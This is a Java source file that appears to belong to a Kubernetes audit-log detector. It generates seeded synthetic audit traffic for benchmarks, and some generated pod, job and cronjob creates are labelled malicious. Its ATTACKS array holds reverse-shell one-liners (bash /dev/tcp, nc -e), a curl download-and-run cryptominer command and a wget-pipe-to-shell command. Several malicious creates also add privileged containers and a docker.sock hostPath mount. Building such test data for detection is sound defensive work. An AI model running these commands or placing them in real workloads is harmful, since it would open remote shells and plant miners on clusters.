package dev.cronsentinel.loadgen;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.SplittableRandom;

/**
 * Realistic Kubernetes audit traffic, deterministic from a seed, for benchmarks and load tests.
 *
 * <p>The default mix follows what large clusters log: about 96% of events are irrelevant to this detector
 * (kubelet lease renewals, node status patches, gets, lists and watches, configmap reads); the rest are
 * creates of pods, jobs and cronjobs with 1-5 KB bodies, a configurable share of them malicious. Every
 * request is logged in both stages ({@code RequestReceived} then {@code ResponseComplete}, same audit ID),
 * as an API server without a stage filter does. The average event is about 1.2 KB.
 *
 * <p>Events are built with a {@code StringBuilder}, not a JSON library, so the generator is never the
 * bottleneck of the benchmark it feeds. Event time advances by a fixed step per request.
 */
public final class AuditTrafficGenerator {
    private static final DateTimeFormatter TS = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'").withZone(ZoneOffset.UTC);
    private static final String[] NAMESPACES = {"default", "prod", "web", "payments", "build", "data", "ops", "edge", "ml", "search"};
    private static final String[] HUMANS = {"alice@example.com", "bob@example.com", "carol@example.com",
        "system:serviceaccount:ci:deployer", "system:serviceaccount:argocd:argocd-application-controller"};
    private static final String[] IMAGES = {"registry.example.com/app/worker:7.1", "postgres:16", "python:3.12-slim",
        "ghcr.io/acme/runner:1.8", "registry.example.com/platform/toolbox:4.2", "nginx:1.27", "busybox:1.36"};
    private static final String[] ATTACKS = {
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "curl -fsSL http://203.0.113.9/x -o /tmp/k && chmod +x /tmp/k && /tmp/k -o stratum+tcp://pool.example.net:3333",
        "nc -e /bin/sh 198.51.100.7 9001",
        "wget -qO- http://203.0.113.9/m.sh | sh"};
    private static final String FILLER_ANNOTATION = "x".repeat(180);

    /** What to generate. */
    public record Mix(double relevantShare, double maliciousShare, long startMillis, long stepMicros) {
        public static Mix realistic() {
            return new Mix(0.04, 0.05, Instant.parse("2026-11-20T00:00:00Z").toEpochMilli(), 200);
        }

        public static Mix relevantOnly() {
            return new Mix(1.0, 0.05, Instant.parse("2026-11-20T00:00:00Z").toEpochMilli(), 200);
        }
    }

    /** Counts of what was generated, to check the mix. */
    public static final class Counts {
        public long events;
        public long bytes;
        public long relevantRequests;
        public long maliciousRequests;
        public long requests;
    }

    private final SplittableRandom random;
    private final Mix mix;
    private final Deque<String> pending = new ArrayDeque<>(2);
    private final Counts counts = new Counts();
    private long micros;
    private long seq;

    public AuditTrafficGenerator(long seed, Mix mix) {
        this.random = new SplittableRandom(seed);
        this.mix = mix;
        this.micros = mix.startMillis() * 1000;
    }

    public Counts counts() {
        return counts;
    }

    /** The next event as one JSON line, without the newline. */
    public byte[] next() {
        if (pending.isEmpty()) {
            request();
        }
        byte[] b = pending.poll().getBytes(StandardCharsets.UTF_8);
        counts.events++;
        counts.bytes += b.length + 1;
        return b;
    }

    private void request() {
        micros += mix.stepMicros();
        seq++;
        counts.requests++;
        String auditId = uuid();
        boolean relevant = random.nextDouble() < mix.relevantShare();
        String[] stages;
        if (relevant) {
            counts.relevantRequests++;
            boolean malicious = random.nextDouble() < mix.maliciousShare();
            if (malicious) {
                counts.maliciousRequests++;
            }
            stages = workloadCreate(auditId, malicious);
        } else {
            stages = irrelevant(auditId);
        }
        pending.add(stages[0]);
        pending.add(stages[1]);
    }

    private String[] irrelevant(String auditId) {
        int kind = random.nextInt(100);
        String node = "node-" + random.nextInt(500);
        if (kind < 40) {
            String body = "{\"kind\":\"Lease\",\"apiVersion\":\"coordination.k8s.io/v1\",\"metadata\":{\"name\":\"" + node
                    + "\",\"namespace\":\"kube-node-lease\",\"uid\":\"" + uuid() + "\",\"resourceVersion\":\"" + (1_000_000 + seq)
                    + "\"},\"spec\":{\"holderIdentity\":\"" + node + "\",\"leaseDurationSeconds\":40,\"renewTime\":\"" + ts(0) + "\"}}";
            // RequestResponse level: the lease is both the request and the response body.
            return both(auditId, "update", "system:node:" + node, "[\"system:nodes\",\"system:authenticated\"]",
                    "kubelet/v1.30.2 (linux/amd64) kubernetes/3c1c56d", "10.0." + random.nextInt(4) + "." + random.nextInt(250),
                    "{\"resource\":\"leases\",\"namespace\":\"kube-node-lease\",\"name\":\"" + node + "\",\"apiGroup\":\"coordination.k8s.io\",\"apiVersion\":\"v1\"}",
                    "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/" + node + "?timeout=10s", 200, "RequestResponse",
                    body + ",\"responseObject\":" + body.replace("\"spec\"", "\"managedFields\":[{\"manager\":\"kubelet\",\"operation\":\"Update\",\"apiVersion\":\"coordination.k8s.io/v1\",\"time\":\"" + ts(0) + "\",\"fieldsType\":\"FieldsV1\",\"fieldsV1\":{\"f:spec\":{\"f:holderIdentity\":{},\"f:leaseDurationSeconds\":{},\"f:renewTime\":{}}}}],\"spec\""));
        }
        if (kind < 55) {
            StringBuilder conditions = new StringBuilder();
            String[][] kinds = {{"MemoryPressure", "False", "KubeletHasSufficientMemory", "kubelet has sufficient memory available"},
                {"DiskPressure", "False", "KubeletHasNoDiskPressure", "kubelet has no disk pressure"},
                {"PIDPressure", "False", "KubeletHasSufficientPID", "kubelet has sufficient PID available"},
                {"Ready", "True", "KubeletReady", "kubelet is posting ready status"}};
            for (String[] k : kinds) {
                conditions.append(conditions.length() == 0 ? "" : ",").append("{\"type\":\"").append(k[0]).append("\",\"status\":\"").append(k[1])
                        .append("\",\"lastHeartbeatTime\":\"").append(ts(0)).append("\",\"reason\":\"").append(k[2])
                        .append("\",\"message\":\"").append(k[3]).append("\"}");
            }
            String body = "{\"status\":{\"$setElementOrder/conditions\":[{\"type\":\"MemoryPressure\"},{\"type\":\"DiskPressure\"},{\"type\":\"PIDPressure\"},{\"type\":\"Ready\"}],\"conditions\":["
                    + conditions + "]}}";
            return both(auditId, "patch", "system:node:" + node, "[\"system:nodes\",\"system:authenticated\"]",
                    "kubelet/v1.30.2 (linux/amd64) kubernetes/3c1c56d", "10.0.1." + random.nextInt(250),
                    "{\"resource\":\"nodes\",\"name\":\"" + node + "\",\"apiVersion\":\"v1\",\"subresource\":\"status\"}",
                    "/api/v1/nodes/" + node + "/status?timeout=10s", 200, "Request", body);
        }
        String ns = NAMESPACES[random.nextInt(NAMESPACES.length)];
        String verb = kind < 75 ? "get" : kind < 88 ? "list" : "watch";
        String resource = kind < 70 ? "configmaps" : kind < 80 ? "pods" : kind < 90 ? "endpointslices" : "secrets";
        String user = kind % 3 == 0 ? HUMANS[random.nextInt(HUMANS.length)] : "system:serviceaccount:" + ns + ":app-" + random.nextInt(40);
        return both(auditId, verb, user, "[\"system:serviceaccounts\",\"system:serviceaccounts:" + ns + "\",\"system:authenticated\"]",
                "app/v2.3.1 (linux/amd64) kubernetes/$Format", "10.1." + random.nextInt(250) + "." + random.nextInt(250),
                "{\"resource\":\"" + resource + "\",\"namespace\":\"" + ns + "\",\"name\":\"cfg-" + random.nextInt(200) + "\",\"apiVersion\":\"v1\"}",
                "/api/v1/namespaces/" + ns + "/" + resource + (verb.equals("get") ? "/cfg" : "?limit=500"), 200, "Metadata", null);
    }

    private String[] workloadCreate(String auditId, boolean malicious) {
        String ns = NAMESPACES[random.nextInt(NAMESPACES.length)];
        int kind = random.nextInt(10);
        String resource = kind < 5 ? "pods" : kind < 8 ? "jobs" : "cronjobs";
        String name = resource.substring(0, resource.length() - 1) + "-" + Long.toString(seq, 36);
        String image = IMAGES[random.nextInt(IMAGES.length)];
        String command = malicious ? ATTACKS[random.nextInt(ATTACKS.length)] : "/app/bin/run --job " + name + " --batch-size " + random.nextInt(1000);
        int envCount = 2 + random.nextInt(20);
        StringBuilder env = new StringBuilder();
        for (int i = 0; i < envCount; i++) {
            env.append(i == 0 ? "" : ",").append("{\"name\":\"APP_SETTING_").append(i).append("\",\"value\":\"value-")
                    .append(Long.toHexString(random.nextLong())).append("\"}");
        }
        String container = "{\"name\":\"main\",\"image\":\"" + image + "\",\"command\":[\"/bin/sh\",\"-c\"],\"args\":[\"" + command
                + "\"],\"env\":[" + env + "],\"resources\":{\"limits\":{\"cpu\":\"500m\",\"memory\":\"256Mi\"},\"requests\":{\"cpu\":\"100m\",\"memory\":\"128Mi\"}},"
                + "\"volumeMounts\":[{\"name\":\"config\",\"mountPath\":\"/etc/app\"}],\"terminationMessagePath\":\"/dev/termination-log\","
                + "\"terminationMessagePolicy\":\"File\",\"imagePullPolicy\":\"IfNotPresent\""
                + (malicious && random.nextBoolean() ? ",\"securityContext\":{\"privileged\":true}" : ",\"securityContext\":{\"privileged\":false,\"runAsNonRoot\":true}")
                + "}";
        String volumes = malicious && random.nextBoolean()
                ? "[{\"name\":\"config\",\"hostPath\":{\"path\":\"/var/run/docker.sock\",\"type\":\"\"}}]"
                : "[{\"name\":\"config\",\"configMap\":{\"name\":\"app-config\",\"defaultMode\":420}}]";
        String podSpec = "{\"volumes\":" + volumes + ",\"containers\":[" + container + "],\"restartPolicy\":\"" + (resource.equals("pods") ? "Always" : "OnFailure")
                + "\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\",\"securityContext\":{},\"schedulerName\":\"default-scheduler\"}";
        String meta = "{\"name\":\"" + name + "\",\"namespace\":\"" + ns + "\",\"labels\":{\"app\":\"" + name + "\",\"team\":\"t" + random.nextInt(30)
                + "\"},\"annotations\":{\"example.com/owner\":\"" + FILLER_ANNOTATION.substring(0, 20 + random.nextInt(160)) + "\"}}";
        String body;
        String api;
        if (resource.equals("pods")) {
            body = "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":" + meta + ",\"spec\":" + podSpec + ",\"status\":{}}";
            api = "/api/v1";
        } else if (resource.equals("jobs")) {
            body = "{\"kind\":\"Job\",\"apiVersion\":\"batch/v1\",\"metadata\":" + meta + ",\"spec\":{\"backoffLimit\":6,\"template\":{\"metadata\":{\"creationTimestamp\":null},\"spec\":"
                    + podSpec + "}},\"status\":{}}";
            api = "/apis/batch/v1";
        } else {
            body = "{\"kind\":\"CronJob\",\"apiVersion\":\"batch/v1\",\"metadata\":" + meta + ",\"spec\":{\"schedule\":\"*/" + (1 + random.nextInt(30))
                    + " * * * *\",\"concurrencyPolicy\":\"Forbid\",\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":" + podSpec + "}}}},\"status\":{}}";
            api = "/apis/batch/v1";
        }
        String user = malicious ? "system:serviceaccount:ci:deployer" : HUMANS[random.nextInt(HUMANS.length)];
        String ref = "{\"resource\":\"" + resource + "\",\"namespace\":\"" + ns + "\"" + (resource.equals("pods") ? "" : ",\"name\":\"" + name + "\"")
                + ",\"apiGroup\":\"" + (resource.equals("pods") ? "" : "batch") + "\",\"apiVersion\":\"v1\"}";
        return both(auditId, "create", user, "[\"system:authenticated\"]", "kubectl/v1.30.2 (linux/amd64) kubernetes/3c1c56d",
                "203.0.113." + random.nextInt(250), ref, api + "/namespaces/" + ns + "/" + resource, 201, "Request", body);
    }

    private String[] both(String auditId, String verb, String user, String groups, String ua, String ip, String objectRef,
            String uri, int code, String level, String requestBody) {
        String head = "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"" + level + "\",\"auditID\":\"" + auditId + "\",\"stage\":\"";
        // Service-account tokens carry the pod binding in user.extra (Kubernetes 1.30+), as real events do.
        String extra = user.startsWith("system:serviceaccount:") || user.startsWith("system:node:")
                ? ",\"extra\":{\"authentication.kubernetes.io/credential-id\":[\"JTI=" + uuid() + "\"],\"authentication.kubernetes.io/node-name\":[\"node-"
                        + (seq % 500) + "\"],\"authentication.kubernetes.io/pod-name\":[\"app-"
                        + Long.toString(seq % 9973, 36) + "-7d9f8c6b5-x2k4p\"]}"
                : "";
        String middle = "\",\"requestURI\":\"" + uri + "\",\"verb\":\"" + verb + "\",\"user\":{\"username\":\"" + user + "\",\"uid\":\"" + uuid()
                + "\",\"groups\":" + groups + extra + "},\"sourceIPs\":[\"" + ip + "\"],\"userAgent\":\"" + ua + "\",\"objectRef\":" + objectRef;
        String received = ts(0);
        String first = head + "RequestReceived" + middle + ",\"requestReceivedTimestamp\":\"" + received + "\",\"stageTimestamp\":\"" + received + "\"}";
        String second = head + "ResponseComplete" + middle + ",\"responseStatus\":{\"metadata\":{},\"code\":" + code + "}"
                + (requestBody != null ? ",\"requestObject\":" + requestBody : "")
                + ",\"requestReceivedTimestamp\":\"" + received + "\",\"stageTimestamp\":\"" + ts(3000 + random.nextInt(20_000))
                + "\",\"annotations\":{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"system:" + verb + "\\\"\"}}";
        return new String[] {first, second};
    }

    private String ts(long plusMicros) {
        long m = micros + plusMicros;
        return TS.format(Instant.ofEpochSecond(Math.floorDiv(m, 1_000_000), Math.floorMod(m, 1_000_000) * 1000));
    }

    private String uuid() {
        long a = random.nextLong();
        long b = random.nextLong();
        String h = String.format("%016x%016x", a, b);
        return h.substring(0, 8) + "-" + h.substring(8, 12) + "-" + h.substring(12, 16) + "-" + h.substring(16, 20) + "-" + h.substring(20);
    }
}
